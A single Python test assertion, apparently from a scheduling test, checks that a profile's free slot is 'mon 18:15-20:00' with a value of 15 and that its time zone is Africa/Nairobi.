    assert (one.profile["free"], one.zone) == (("mon 18:15-20:00", 15), "Africa/Nairobi")
